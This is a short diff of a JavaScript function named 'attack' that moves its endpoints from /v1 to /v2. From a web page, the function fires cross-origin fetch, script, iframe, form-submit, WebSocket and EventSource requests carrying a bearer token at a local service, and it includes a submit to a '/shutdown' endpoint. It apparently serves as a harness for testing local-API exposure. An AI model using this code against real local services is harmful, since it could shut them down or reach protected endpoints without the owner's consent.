@@ -4,7 +4,7 @@ async function attack(port, token) {
   const hosts = [`127.0.0.1:${port}`, `localhost:${port}`, `${location.hostname}:${port}`];
   const tries = [];
   for (const host of hosts) {
-    const url = `http://${host}/v1`;
+    const url = `http://${host}/v2`;
     const json = { "Content-Type": "application/json", Authorization: `Bearer ${token}` };
     tries.push(fetch(`${url}/maps`));
     tries.push(fetch(`${url}/maps`, { mode: "no-cors", referrerPolicy: "no-referrer" }));
@@ -16,7 +16,7 @@ async function attack(port, token) {
     show("script", `${url}/maps`);
     show("iframe", `${url}/maps`);
     submit(`${url}/shutdown`);
-    new WebSocket(`ws://${host}/v1/events`);
+    new WebSocket(`ws://${host}/v2/events`);
     new EventSource(`${url}/events`);
   }
   const answers = await Promise.allSettled(tries);
